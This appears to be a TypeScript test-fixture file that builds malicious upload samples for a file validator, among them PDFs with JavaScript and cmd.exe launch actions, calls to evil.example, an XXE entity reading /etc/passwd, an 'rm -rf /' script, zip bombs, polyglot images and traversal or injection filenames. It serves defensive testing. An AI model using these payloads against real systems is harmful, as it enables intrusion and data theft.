import { deflateSync } from "node:zlib";
import { writeZip } from "../../../zip/zip.ts";

/** A file that means harm, with the name it comes under. */
export interface HostileFile {
  readonly what: string;
  readonly bytes: Buffer;
  readonly name?: string;
}

/** The harmless file by which scanners are tried, in two halves so that no scanner takes this source for it. */
const eicar = Buffer.from(["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join(""));
const script = "<script>document.title='owned'</script>";

const zip = (name: string, bytes: Uint8Array) => writeZip([{ name, bytes }]);
const dos = (text: string) => Buffer.from(text, "latin1");

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([length, Buffer.from(type), data, Buffer.alloc(4)]);
}

function pngOf(
  width: number,
  height: number,
  more: Buffer = Buffer.alloc(0),
  { first = [], last = [] }: { readonly first?: readonly Buffer[]; readonly last?: readonly Buffer[] } = {},
): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 8;
  return Buffer.concat([
    dos("\u0089PNG\r\n\u001a\n"),
    chunk("IHDR", head),
    ...first,
    chunk("IDAT", deflateSync(Buffer.alloc(16))),
    ...last,
    chunk("IEND", Buffer.alloc(0)),
    more,
  ]);
}

const box = (type: string, data: Buffer): Buffer => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length + 8);
  return Buffer.concat([length, Buffer.from(type), data]);
};

/** A photograph of a telephone, of 100 by 100 pixels. */
function heicOf(more: Buffer = Buffer.alloc(0), first: readonly Buffer[] = []): Buffer {
  const size = Buffer.alloc(12);
  size.writeUInt32BE(100, 4);
  size.writeUInt32BE(100, 8);
  const brand = Buffer.concat([Buffer.from("heic"), Buffer.alloc(4), Buffer.from("mif1heic")]);
  return Buffer.concat([box("ftyp", brand), ...first, box("ispe", size), box("mdat", Buffer.alloc(64)), more]);
}

function jpegOf(width: number, height: number, more: Buffer = Buffer.alloc(0), comment = ""): Buffer {
  const frame = Buffer.from([0xff, 0xc0, 0, 11, 8, 0, 0, 0, 0, 1, 1, 0x11, 0]);
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  const app = Buffer.from([0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]);
  const said = Buffer.from(comment);
  const comments = said.length > 0 ? Buffer.concat([Buffer.from([0xff, 0xfe, 0, said.length + 2]), said]) : said;
  return Buffer.concat([Buffer.from([0xff, 0xd8]), app, comments, frame, Buffer.from([0xff, 0xd9]), more]);
}

/** A PDF of one empty page with objects of somebody's own; the catalogue refers to them. */
export const pdfWith = (catalog = "", objects: readonly string[] = []): Buffer =>
  pdfFrom([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    EMPTY_PAGE,
    ...objects,
  ]);

/** A PDF of so many empty pages. */
export function pdfOf(pages: number): Buffer {
  const kids = Array.from({ length: pages }, (_, index) => `${index + 3} 0 R`).join(" ");
  return pdfFrom([
    "<< /Type /Catalog /Pages 2 0 R >>",
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    ...Array<string>(pages).fill(EMPTY_PAGE),
  ]);
}

const EMPTY_PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>";

/** Objects in their order, the catalogue first. */
function pdfFrom(bodies: readonly string[]): Buffer {
  let text = "%PDF-1.7\n";
  const places = bodies.map((body, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return place;
  });
  const start = text.length;
  const rows = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  const size = bodies.length + 1;
  text += `xref\n0 ${size}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return dos(text);
}

const packed = (body: string, type = "/Type /ObjStm"): string => stream(type, deflateSync(dos(`5 0 ${body}`)));

const stream = (type: string, packedBytes: Buffer, filter = "/Filter /FlateDecode"): string =>
  `<< ${type} /N 1 /First 4 ${filter} /Length ${packedBytes.length} >>\nstream\n${packedBytes.toString("latin1")}\nendstream`;

const launch = "<< /S /Launch /F (cmd.exe) >>";
const inHex = (body: string): Buffer => Buffer.from(`${dos(`5 0 ${body}`).toString("hex")}>`);
const jpegEnd = Buffer.of(0xff, 0xd9);

/** Names that would leave a folder, end early, run the other way, or mean something to a system. */
const names = [
  "../../../../etc/passwd",
  "..\\..\\windows\\system32\\drivers\\etc\\hosts",
  "/etc/cron.d/job",
  "C:\\autoexec.bat",
  "statement.pdf\0.exe",
  "statement\u202efdp.exe",
  "\u{1f4c4}.html",
  "<img src=x onerror=alert(1)>.pdf",
  "'; drop table documents; --.pdf",
  '"; filename="other.html',
  "con.pdf",
  `${"x".repeat(4000)}.pdf`,
  "\r\nset-cookie: a=b",
  ".htaccess",
];

/** Refused, each for what it is. */
export const refusedFiles: readonly HostileFile[] = [
  { what: "nothing at all", bytes: Buffer.alloc(0) },
  { what: "one byte", bytes: Buffer.from("%") },
  { what: "the scanners' own virus", bytes: eicar },
  { what: "the virus in an archive", bytes: zip("a.com", eicar) },
  { what: "the virus in an archive in an archive", bytes: zip("b.zip", zip("a.com", eicar)) },
  { what: "the virus behind a PDF", bytes: Buffer.concat([pdfWith(), eicar]) },
  { what: "the virus behind a picture", bytes: pngOf(10, 10, eicar) },
  { what: "the virus behind a photograph", bytes: jpegOf(10, 10, eicar) },
  { what: "the virus in a photograph's comment", bytes: jpegOf(10, 10, undefined, eicar.toString()) },
  { what: "an archive that grows without end", bytes: zip("zeros.gz", deflateSync(Buffer.alloc(20_000_000))) },
  { what: "a page", bytes: Buffer.from(`<!doctype html>${script}`) },
  { what: "a page with a PDF's name", bytes: Buffer.from(`<html>${script}</html>`), name: "statement.pdf" },
  { what: "a drawing with a script", bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`) },
  { what: "a drawing with a handler", bytes: Buffer.from('<?xml version="1.0"?><svg onload="alert(1)"/>') },
  {
    what: "a document of entities",
    bytes: Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
  },
  { what: "a page with a PDF inside", bytes: Buffer.concat([Buffer.from(`<html>${script}`), pdfWith()]) },
  { what: "a script with a PDF inside", bytes: Buffer.concat([Buffer.from("alert(1);//"), pdfWith()]) },
  { what: "an archive with a PDF inside", bytes: Buffer.concat([zip("a.txt", Buffer.from("a")), pdfWith()]) },
  { what: "a picture with an archive behind it", bytes: pngOf(10, 10, zip("a.txt", Buffer.from("a"))) },
  { what: "a picture with a page behind it", bytes: pngOf(10, 10, Buffer.from(script)) },
  { what: "a picture with a PDF behind it", bytes: pngOf(10, 10, pdfWith()) },
  { what: "a photograph with an archive behind it", bytes: jpegOf(10, 10, zip("a.txt", Buffer.from("a"))) },
  { what: "a photograph with a page behind it", bytes: jpegOf(10, 10, Buffer.from("<html>")) },
  { what: "a picture of 50,000 by 50,000", bytes: pngOf(50_000, 50_000) },
  { what: "a picture wider than any", bytes: pngOf(2_000_000_000, 1) },
  { what: "a photograph of 65,535 by 65,535", bytes: jpegOf(65_535, 65_535) },
  { what: "a picture without a size", bytes: pngOf(0, 0) },
  { what: "a picture cut short", bytes: pngOf(10, 10).subarray(0, 30) },
  { what: "a photograph cut short", bytes: jpegOf(10, 10).subarray(0, 12) },
  { what: "a PDF with a script on opening", bytes: pdfWith("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>") },
  {
    what: "a PDF with a script by another spelling",
    bytes: pdfWith("/OpenAction << /S /J#61vaScript /#4aS (app.alert(1)) >>"),
  },
  { what: "a PDF with a script in its names", bytes: pdfWith("/Names << /JavaScript 4 0 R >>", ["<< /Names [] >>"]) },
  { what: "a PDF that starts a program", bytes: pdfWith("/OpenAction << /S /Launch /F (cmd.exe) >>") },
  { what: "a PDF with a film", bytes: pdfWith("", ["<< /Type /Annot /Subtype /RichMedia >>"]) },
  { what: "a PDF that sends itself", bytes: pdfWith("/OpenAction << /S /SubmitForm /F (http://evil.example) >>") },
  { what: "a PDF that fetches data", bytes: pdfWith("/OpenAction << /S /ImportData /F (//evil.example/x) >>") },
  { what: "a PDF with a file inside", bytes: pdfWith("/Names << /EmbeddedFiles 4 0 R >>", ["<< /Names [] >>"]) },
  { what: "a PDF with a packed script", bytes: pdfWith("", [packed("<< /S /JavaScript /JS (app.alert(1)) >>")]) },
  { what: "a PDF with a packed program", bytes: pdfWith("", [packed("<< /S /Launch /F (cmd.exe) >>")]) },
  { what: "a PDF with a program behind a comment", bytes: pdfWith("%stream\n/OpenAction 4 0 R", [launch]) },
  {
    what: "a PDF with a program behind a comment of a stream",
    bytes: pdfWith("%>>stream\n/OpenAction 4 0 R", [launch]),
  },
  { what: "a PDF with a program in a string's stream", bytes: pdfWith("/A (>>\nstream\n)", [launch]) },
  { what: "a PDF with a program packed by another spelling", bytes: pdfWith("", [packed(launch, "/Type /Obj#53tm")]) },
  {
    what: "a PDF with a program packed in two objects",
    bytes: pdfWith("", [packed(launch, "/Type /ObjStm /A (4 0 obj)")]),
  },
  {
    what: "a PDF with a program packed in hexadecimal",
    bytes: pdfWith("", [stream("/Type /ObjStm", inHex(launch), "/Filter /ASCIIHexDecode")]),
  },
  {
    what: "a PDF with a program packed twice",
    bytes: pdfWith("", [stream("/Type /ObjStm", deflateSync(inHex(launch)), "/Filter [/FlateDecode /ASCIIHexDecode]")]),
  },
  {
    what: "a PDF with a program whose packing is said elsewhere",
    bytes: pdfWith("", ["/ASCIIHexDecode", stream("/Type /ObjStm", inHex(launch), "/Filter 4 0 R")]),
  },
  {
    what: "a PDF with a program in packing cut short",
    bytes: pdfWith("", [stream("/Type /ObjStm", deflateSync(dos(`5 0 ${launch}`)).subarray(0, -5))]),
  },
  {
    what: "a PDF with a program packed behind the end of a stream",
    bytes: pdfWith("", [stream("/Type /ObjStm", deflateSync(dos(`5 0 endstream ${launch}`), { level: 0 }))]),
  },
  {
    what: "a PDF with packed objects that grow without end",
    bytes: pdfWith(
      "",
      Array.from({ length: 6 }, () => packed(" ".repeat(7_000_000))),
    ),
  },
  {
    what: "a photograph with a page before a second end",
    bytes: jpegOf(10, 10, Buffer.concat([dos(script), jpegEnd])),
  },
  {
    what: "a photograph with an archive between two",
    bytes: jpegOf(10, 10, Buffer.concat([zip("a.txt", Buffer.from("a")), jpegOf(4, 4)])),
  },
  { what: "a picture with a page before a second end", bytes: pngOf(10, 10, Buffer.from(`${script}IEND`)) },
  {
    what: "a PDF that leads to another computer's file",
    bytes: pdfWith("/OpenAction << /S /GoToR /F (//evil/x) /D [0] >>"),
  },
  { what: "a PDF that leads into a file of another's", bytes: pdfWith("/AA << /O << /S /GoToE /F (//evil/x) >> >>") },
  { what: "a PDF that plays a film", bytes: pdfWith("/OpenAction << /S /Movie /F (//evil/x) >>") },
  { what: "a PDF that plays a sound", bytes: pdfWith("/OpenAction << /S /Sound /F (//evil/x) >>") },
  { what: "a PDF with a form that runs by itself", bytes: pdfWith("/AcroForm << /XFA 4 0 R >>", ["<< >>"]) },
  { what: "a PDF with an archive behind it", bytes: Buffer.concat([pdfWith(), zip("a.exe", Buffer.from("MZ"))]) },
  { what: "a picture with a PDF in it", bytes: pngOf(10, 10, undefined, { first: [chunk("prVt", pdfWith())] }) },
  {
    what: "a picture with an archive in it",
    bytes: pngOf(10, 10, undefined, { last: [chunk("prVt", zip("a.exe", Buffer.from("MZ")))] }),
  },
  { what: "a photograph with a PDF in its comment", bytes: jpegOf(10, 10, undefined, "%PDF-1.4 1 0 obj") },
  { what: "a telephone's photograph with an archive behind it", bytes: heicOf(zip("a.exe", Buffer.from("MZ"))) },
  { what: "a telephone's photograph with a PDF in it", bytes: heicOf(undefined, [box("free", pdfWith())]) },
  { what: "a telephone's photograph with a page behind it", bytes: heicOf(Buffer.from(script)) },
  { what: "a PDF of thousands of pages", bytes: pdfOf(3000) },
  { what: "a PDF without pages", bytes: dos("%PDF-1.7\n%%EOF") },
  { what: "a PDF cut short", bytes: pdfWith().subarray(0, 60) },
  { what: "a program for Windows", bytes: Buffer.concat([dos("MZ\u0090\0"), Buffer.alloc(512)]), name: "photo.jpg" },
  { what: "a program for Linux", bytes: Buffer.concat([dos("\u007fELF"), Buffer.alloc(64)]) },
  { what: "a shell script", bytes: Buffer.from("#!/bin/sh\nrm -rf /\n") },
  { what: "a text", bytes: Buffer.from("a letter") },
  { what: "a spreadsheet", bytes: zip("xl/workbook.xml", Buffer.from("<workbook/>")) },
  { what: "an animation", bytes: dos("GIF89a=alert(1);\u0001\0\u0001\0") },
  { what: "a bitmap", bytes: Buffer.concat([dos("BM"), Buffer.alloc(60)]) },
  { what: "a film", bytes: Buffer.concat([Buffer.from([0, 0, 0, 24]), dos("ftypisom"), Buffer.alloc(40)]) },
  { what: "a picture's beginning and no more", bytes: dos("\u0089PNG\r\n\u001a\n") },
];

/** Taken, because nothing in them can act: what they were called, or say in a comment, reaches nobody. */
export const harmlessFiles: readonly HostileFile[] = [
  ...names.map((name) => ({ what: `a PDF called ${JSON.stringify(name.slice(0, 40))}`, bytes: pdfWith(), name })),
  { what: "a photograph with a script in its comment", bytes: jpegOf(10, 10, undefined, script) },
  {
    what: "a PDF whose pages go round in a circle",
    bytes: dos(
      "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R /Kids [1 0 R] >>\nendobj\ntrailer\n<< /Root 1 0 R >>",
    ),
  },
  { what: "a photograph with two ends", bytes: jpegOf(10, 10, jpegOf(4, 4)) },
];

/** What people really send. */
export const ordinaryFiles: readonly HostileFile[] = [
  ...Array.from({ length: 8 }, (_, index) => ({
    what: `a PDF ${index}`,
    bytes: pdfWith(
      "",
      Array.from({ length: index }, () => "<< /Type /Annot >>"),
    ),
  })),
  { what: "a PDF with packed objects", bytes: pdfWith("", [packed("<< /Type /Annot >>")]) },
  {
    what: "a PDF with packed objects in an array of filters",
    bytes: pdfWith("", [stream("/Type/ObjStm", deflateSync(dos("5 0 null")), "/Filter[/FlateDecode]")]),
  },
  {
    what: "a photograph with a brighter one behind it",
    bytes: jpegOf(4032, 3024, jpegOf(1008, 756, undefined, "<?xml?>")),
  },
  { what: "a telephone's photograph", bytes: heicOf() },
  ...Array.from({ length: 6 }, (_, index) => ({ what: `a picture ${index}`, bytes: pngOf(1000 + index, 800) })),
  ...Array.from({ length: 6 }, (_, index) => ({ what: `a photograph ${index}`, bytes: jpegOf(4032, 3024 + index) })),
];
